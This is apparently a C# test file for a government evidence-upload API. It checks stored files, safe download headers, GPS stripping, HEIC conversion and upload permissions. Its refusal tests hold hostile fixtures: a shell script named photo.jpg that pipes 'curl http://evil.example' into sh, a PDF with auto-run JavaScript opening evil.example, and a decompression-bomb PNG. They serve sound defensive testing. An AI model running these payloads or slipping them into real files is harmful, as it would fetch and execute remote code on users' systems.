using System.Net;
using System.Net.Http.Headers;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Minsheng.Grains.Evidence;
using Minsheng.Silo.Tests.Infrastructure;
using SkiaSharp;

namespace Minsheng.Silo.Tests;

/// <summary>
/// Evidence files over HTTP (issue 21, item 1): every allowed type stored and served back with its headers, location
/// stripped unless the plan keeps it; every disguised or hostile file refused with a Chinese problem naming it, the
/// store unchanged and the spool folder empty; who may upload and read.
/// </summary>
public sealed class EvidenceApiTests(EvidenceApiTests.Host host) : IClassFixture<EvidenceApiTests.Host>
{
    /// <summary>
    /// A silo on the simulated clock with the seed plan, a copy that keeps locations (keep-2024, same district) and a plan
    /// of another district (xihu-2024); files up to 300,000 bytes; its own spool folder, watched by the tests.
    /// </summary>
    public sealed class Host : SiloHost
    {
        public const long MaxFileBytes = 300_000;
        private readonly string _seeds = Directory.CreateTempSubdirectory("minsheng-evidence-seeds-").FullName;
        public string Spool { get; } = Directory.CreateTempSubdirectory("minsheng-evidence-spool-").FullName;

        /// <summary>Completed when a request to an evidence upload has run to its end on the server (its finally blocks included).</summary>
        public TaskCompletionSource UploadFinished { get; set; } = new(TaskCreationOptions.RunContinuationsAsynchronously);

        public Host()
        {
            var seed = File.ReadAllText(Path.Combine(RepoPaths.Seeds, "gongshu-2024.plan.json"));
            File.WriteAllText(Path.Combine(_seeds, "gongshu-2024.plan.json"), seed);
            var keep = JsonNode.Parse(seed)!.AsObject();
            keep["id"] = "keep-2024";
            keep["evidence"] = new JsonObject { ["keepLocation"] = true };
            File.WriteAllText(Path.Combine(_seeds, "keep-2024.plan.json"), keep.ToJsonString());
            var xihu = JsonNode.Parse(seed)!.AsObject();
            xihu["id"] = "xihu-2024";
            xihu["district"] = new JsonObject { ["id"] = "xihu", ["name"] = "西湖区" };
            File.WriteAllText(Path.Combine(_seeds, "xihu-2024.plan.json"), xihu.ToJsonString());
            With("Minsheng:Seeds", _seeds);
            With("Minsheng:Clock:Mode", "Simulated");
            With("Minsheng:Evidence:MaxFileBytes", MaxFileBytes.ToString(System.Globalization.CultureInfo.InvariantCulture));
            With("Minsheng:Evidence:TempFolder", Spool);
        }

        protected override void ConfigureWebHost(IWebHostBuilder builder)
        {
            base.ConfigureWebHost(builder);
            builder.ConfigureServices(s => s.AddSingleton<IStartupFilter>(new UploadBarrier(this)));
        }

        public InMemoryEvidenceStore Store => (InMemoryEvidenceStore)Services.GetRequiredService<IEvidenceStore>();

        public override async ValueTask DisposeAsync()
        {
            await base.DisposeAsync();
            Directory.Delete(_seeds, recursive: true);
            Directory.Delete(Spool, recursive: true);
        }

        private sealed class UploadBarrier(Host host) : IStartupFilter
        {
            public Action<IApplicationBuilder> Configure(Action<IApplicationBuilder> next) => app =>
            {
                app.Use(async (context, inner) =>
                {
                    try { await inner(context); }
                    finally
                    {
                        if (HttpMethods.IsPost(context.Request.Method) && context.Request.Path.Value!.EndsWith("/evidence", StringComparison.Ordinal))
                            host.UploadFinished.TrySetResult();
                    }
                });
                next(app);
            };
        }
    }

    private static readonly object Lock = new();
    private static int _reports;

    /// <summary>A new accepted report of <paramref name="unit"/> (task 3.1) in <paramref name="plan"/>; returns its id.</summary>
    private async Task<string> Report(string unit = "tianshui", string plan = "gongshu-2024")
    {
        int n;
        lock (Lock) n = ++_reports;
        var id = $"ev-{unit}-{n}";
        var (status, body) = await host.As("office").PostJson($"/api/v1/plans/{plan}/reports", new { reportId = id, taskId = "3.1", unitId = unit, completed = n });
        Assert.True(status == 201, body.Canonical());
        return id;
    }

    private static byte[] Jpeg(int width = 640, int height = 480, bool noise = false)
    {
        using var bitmap = new SKBitmap(width, height);
        using (var canvas = new SKCanvas(bitmap))
        {
            canvas.Clear(SKColors.SteelBlue);
            using var paint = new SKPaint { Color = SKColors.Orange };
            canvas.DrawCircle(width / 2f, height / 2f, height / 3f, paint);
        }
        if (noise)
        {
            var random = new Random(7);
            for (var y = 0; y < height; y++)
            for (var x = 0; x < width; x++)
                bitmap.SetPixel(x, y, new SKColor((byte)random.Next(256), (byte)random.Next(256), (byte)random.Next(256)));
        }
        using var image = SKImage.FromBitmap(bitmap);
        return image.Encode(SKEncodedImageFormat.Jpeg, 90).ToArray();
    }

    private static byte[] Png(int width = 300, int height = 200)
    {
        using var bitmap = new SKBitmap(width, height);
        using (var canvas = new SKCanvas(bitmap)) canvas.Clear(SKColors.SeaGreen);
        using var image = SKImage.FromBitmap(bitmap);
        return image.Encode(SKEncodedImageFormat.Png, 100).ToArray();
    }

    private static MultipartFormDataContent Files(params (string Name, byte[] Bytes)[] files)
    {
        var form = new MultipartFormDataContent();
        foreach (var (name, bytes) in files)
        {
            var part = new ByteArrayContent(bytes);
            part.Headers.ContentType = new MediaTypeHeaderValue("image/jpeg"); // a client's word, never believed
            form.Add(part, "files", name);
        }
        return form;
    }

    private static string Url(string reportId, string plan = "gongshu-2024") => $"/api/v1/plans/{plan}/reports/{reportId}/evidence";

    private async Task<(int Status, JsonNode? Body)> Upload(HttpClient client, string reportId, string plan, params (string, byte[])[] files)
    {
        host.UploadFinished = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        using var response = await client.PostAsync(Url(reportId, plan), Files(files));
        var text = await response.Content.ReadAsStringAsync();
        await host.UploadFinished.Task.WaitAsync(TimeSpan.FromSeconds(30));
        return ((int)response.StatusCode, text.Length == 0 ? null : JsonNode.Parse(text));
    }

    private static async Task<byte[]> Bytes(HttpResponseMessage response) => await response.Content.ReadAsByteArrayAsync();

    private void AssertSpoolEmpty() => Assert.Empty(Directory.EnumerateFileSystemEntries(host.Spool));

    [Fact]
    public async Task Photos_and_pdfs_are_stored_once_served_with_safe_headers_and_photos_lose_their_location()
    {
        var reportId = await Report();
        var street = host.As("street:tianshui");
        var photo = EvidenceSamples.Insert(Jpeg(), EvidenceSamples.ExifWithGps(), EvidenceSamples.XmpWithGps());
        var png = Png();
        var pdf = EvidenceSamples.Pdf();
        var (status, body) = await Upload(street, reportId, "gongshu-2024", ("现场照片.jpg", photo), ("../map.png", png), ("验收报告.pdf", pdf));
        Assert.True(status == 201, body.Canonical());
        var files = body!.AsArray();
        Assert.Equal(["现场照片.jpg", "map.png", "验收报告.pdf"], files.Select(f => f!["name"].Str()));
        Assert.Equal(["image/jpeg", "image/png", "application/pdf"], files.Select(f => f!["contentType"].Str()));
        Assert.Equal(["fileId", "name", "contentType", "bytes", "sha256"], files[0]!.AsObject().Select(p => p.Key));

        // The listing is the upload's answer.
        using var viewer = host.As("viewer");
        var (listed, list) = await viewer.GetJson(Url(reportId));
        Assert.Equal(200, listed);
        Assert.Equal(body.Canonical(), list.Canonical());

        // The photo: inline, nosniff, sandboxed, its ETag the sha256 of the bytes served, and no location left in them.
        using var download = await viewer.GetAsync($"{Url(reportId)}/{files[0]!["fileId"].Str()}");
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        var served = await Bytes(download);
        Assert.Equal("image/jpeg", download.Content.Headers.ContentType!.MediaType);
        Assert.Equal("inline", download.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal("现场照片.jpg", download.Content.Headers.ContentDisposition.FileNameStar);
        Assert.Equal("nosniff", download.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.StartsWith("sandbox", download.Headers.GetValues("Content-Security-Policy").Single());
        Assert.Contains("private", download.Headers.CacheControl!.ToString());
        Assert.Equal($"\"{files[0]!["sha256"].Str()}\"", download.Headers.ETag!.Tag);
        Assert.Equal(files[0]!["sha256"].Str(), Convert.ToHexStringLower(SHA256.HashData(served)));
        Assert.Equal(files[0]!["bytes"]!.GetValue<long>(), served.LongLength);
        Assert.False(EvidenceSamples.Contains(served, EvidenceSamples.LatitudeMarker));
        Assert.False(EvidenceSamples.Contains(served, "GPSLatitude"u8));
        Assert.True(EvidenceSamples.Contains(served, "Minsheng\0"u8)); // the rest of the EXIF stays

        // Revalidation by ETag.
        using var again = new HttpRequestMessage(HttpMethod.Get, $"{Url(reportId)}/{files[0]!["fileId"].Str()}");
        again.Headers.IfNoneMatch.Add(download.Headers.ETag);
        using var notModified = await viewer.SendAsync(again);
        Assert.Equal(HttpStatusCode.NotModified, notModified.StatusCode);

        // The PNG unchanged (it had no location); the PDF only as a download.
        using var pngDownload = await viewer.GetAsync($"{Url(reportId)}/{files[1]!["fileId"].Str()}");
        Assert.Equal(png, await Bytes(pngDownload));
        using var pdfDownload = await viewer.GetAsync($"{Url(reportId)}/{files[2]!["fileId"].Str()}");
        Assert.Equal("attachment", pdfDownload.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal(pdf, await Bytes(pdfDownload));

        // Thumbnails: a JPEG whose longest side is 320; none for the PDF.
        using var thumbnail = await viewer.GetAsync($"{Url(reportId)}/{files[0]!["fileId"].Str()}/thumbnail");
        Assert.Equal("image/jpeg", thumbnail.Content.Headers.ContentType!.MediaType);
        using (var codec = SKCodec.Create(new MemoryStream(await Bytes(thumbnail))))
            Assert.Equal((320, 240), (codec.Info.Width, codec.Info.Height));
        var (noThumbnail, problem) = await viewer.GetJson($"{Url(reportId)}/{files[2]!["fileId"].Str()}/thumbnail");
        Assert.Equal((404, "fileId"), (noThumbnail, problem!["field"].Str()));
        AssertSpoolEmpty();
    }

    [Fact]
    public async Task A_plan_that_keeps_locations_stores_the_photo_as_sent()
    {
        var reportId = await Report(plan: "keep-2024");
        var photo = EvidenceSamples.Insert(Jpeg(), EvidenceSamples.ExifWithGps());
        var (status, body) = await Upload(host.As("street:tianshui"), reportId, "keep-2024", ("gps.jpg", photo));
        Assert.True(status == 201, body.Canonical());
        using var download = await host.As("viewer").GetAsync($"{Url(reportId, "keep-2024")}/{body![0]!["fileId"].Str()}");
        Assert.Equal(photo, await Bytes(download));
    }

    [Fact]
    public async Task The_same_file_sent_twice_is_stored_once_and_listed_twice()
    {
        var reportId = await Report();
        var photo = Jpeg(200, 100);
        var before = host.Store.BlobCount;
        var street = host.As("street:tianshui");
        Assert.Equal(201, (await Upload(street, reportId, "gongshu-2024", ("a.jpg", photo))).Status);
        Assert.Equal(201, (await Upload(street, reportId, "gongshu-2024", ("b.jpg", photo))).Status);
        Assert.Equal(before + 1, host.Store.BlobCount);
        var (_, list) = await street.GetJson(Url(reportId));
        Assert.Equal(["a.jpg", "b.jpg"], list!.AsArray().Select(f => f!["name"].Str()));
        Assert.Equal(list[0]!["sha256"].Str(), list[1]!["sha256"].Str());
    }

    public static TheoryData<string, string, int> Disguised => new()
    {
        { "script named .jpg", "photo.jpg", 415 },
        { "decompression bomb", "bomb.png", 422 },
        { "one byte over the limit", "big.pdf", 413 },
        { "truncated JPEG", "cut.jpg", 422 },
        { "PDF with JavaScript", "invoice.pdf", 422 },
        { "empty file", "empty.jpg", 422 },
    };

    private static byte[] Content(string name) => name switch
    {
        "photo.jpg" => Encoding.ASCII.GetBytes("#!/bin/sh\ncurl http://evil.example | sh\n"),
        "bomb.png" => EvidenceSamples.PngClaiming(100_000, 100_000),
        "big.pdf" => [.. EvidenceSamples.Pdf(), .. new byte[Host.MaxFileBytes + 1 - EvidenceSamples.Pdf().Length]],
        "cut.jpg" => Jpeg(400, 300, noise: true) is var whole ? whole[..(whole.Length * 6 / 10)] : [],
        "invoice.pdf" => EvidenceSamples.Pdf("/OpenAction << /S /JavaScript /JS (app.launchURL('http://evil.example')) >>"),
        "empty.jpg" => [],
        _ => throw new ArgumentOutOfRangeException(nameof(name)),
    };

    [Theory]
    [MemberData(nameof(Disguised))]
    public async Task A_disguised_or_hostile_file_is_refused_naming_it_and_nothing_is_left_behind(string what, string name, int expected)
    {
        var reportId = await Report();
        var (blobs, audited) = (host.Store.BlobCount, 0);
        // A good photo first: the refusal of the second file keeps the first from being stored too.
        var (status, body) = await Upload(host.As("street:tianshui"), reportId, "gongshu-2024", ("ok.jpg", Jpeg(64, 48)), (name, Content(name)));
        Assert.True(status == expected, $"{what}: {status} {body.Canonical()}");
        Assert.Equal("files[1]", body!["field"].Str());
        Assert.Contains($"“{name}”", body["reason"].Str());
        Assert.Equal(blobs, host.Store.BlobCount);
        Assert.Empty(await host.Store.List("gongshu-2024", reportId));
        AssertSpoolEmpty();
        _ = audited;
    }

    [Fact]
    public async Task A_heic_photo_is_stored_as_the_jpeg_it_converts_to_with_a_thumbnail()
    {
        // SkiaSharp here has no HEIF codec; Magick.NET (libheif) converts it.
        using (var codec = SKCodec.Create(new MemoryStream(EvidenceSamples.Heic), out var result))
        {
            Assert.Null(codec);
            Assert.Equal(SKCodecResult.Unimplemented, result);
        }
        var reportId = await Report();
        var (status, body) = await Upload(host.As("street:tianshui"), reportId, "gongshu-2024", ("IMG_0001.HEIC", EvidenceSamples.Heic));
        Assert.True(status == 201, body.Canonical());
        var file = body!.AsArray().Single()!;
        Assert.Equal(("IMG_0001.jpg", "image/jpeg"), (file["name"].Str(), file["contentType"].Str()));
        var client = host.As("viewer");
        var bytes = await client.GetByteArrayAsync($"/api/v1/plans/gongshu-2024/reports/{reportId}/evidence/{file["fileId"].Str()}");
        Assert.Equal([0xFF, 0xD8, 0xFF], bytes[..3]);
        Assert.Equal(file["sha256"].Str(), Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(bytes)));
        using var decoded = SKBitmap.Decode(bytes);
        Assert.Equal((64, 48), (decoded.Width, decoded.Height));
        using var thumbnail = await client.GetAsync($"/api/v1/plans/gongshu-2024/reports/{reportId}/evidence/{file["fileId"].Str()}/thumbnail");
        Assert.Equal(("image/jpeg", 200), (thumbnail.Content.Headers.ContentType!.MediaType, (int)thumbnail.StatusCode));
        // The same photo again is the same JPEG: stored once.
        var blobs = host.Store.BlobCount;
        Assert.Equal(201, (await Upload(host.As("street:tianshui"), reportId, "gongshu-2024", ("again.heic", EvidenceSamples.Heic))).Item1);
        Assert.Equal(blobs, host.Store.BlobCount);
    }

    [Fact]
    public async Task Who_may_upload_and_read()
    {
        var reportId = await Report("tianshui");
        var photo = ("p.jpg", Jpeg(64, 48));
        // A viewer reads but may not upload; another street may not upload to tianshui's report; the office may.
        var (viewer, v) = await Upload(host.As("viewer"), reportId, "gongshu-2024", photo);
        Assert.Equal((403, "reportId"), (viewer, v!["field"].Str()));
        var (wulin, w) = await Upload(host.As("street:wulin"), reportId, "gongshu-2024", photo);
        Assert.Equal((403, "reportId"), (wulin, w!["field"].Str()));
        Assert.Equal(201, (await Upload(host.As("office"), reportId, "gongshu-2024", photo)).Status);
        Assert.Equal(200, (await host.As("viewer").GetJson(Url(reportId))).Status);
        Assert.Equal(200, (await host.As("street:wulin").GetJson(Url(reportId))).Status);

        // Another district's street: the plan is not its to use, for reading or writing.
        using var xihu = host.CreateClient();
        xihu.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", SiloHost.Token("street:tianshui", district: "xihu"));
        var (read, r) = await xihu.GetJson(Url(reportId));
        Assert.Equal((403, "planId"), (read, r!["field"].Str()));
        var (write, _) = await Upload(xihu, reportId, "gongshu-2024", photo);
        Assert.Equal(403, write);

        // Unknown report, unknown file: 404 naming them.
        var (noReport, nr) = await host.As("viewer").GetJson(Url("no-such-report"));
        Assert.Equal((404, "reportId"), (noReport, nr!["field"].Str()));
        var (noFile, nf) = await host.As("viewer").GetJson($"{Url(reportId)}/no-such-file");
        Assert.Equal((404, "fileId"), (noFile, nf!["field"].Str()));
        var (upload404, _) = await Upload(host.As("office"), "no-such-report", "gongshu-2024", photo);
        Assert.Equal(404, upload404);
        Assert.Single(await host.Store.List("gongshu-2024", reportId));
        AssertSpoolEmpty();
    }
}
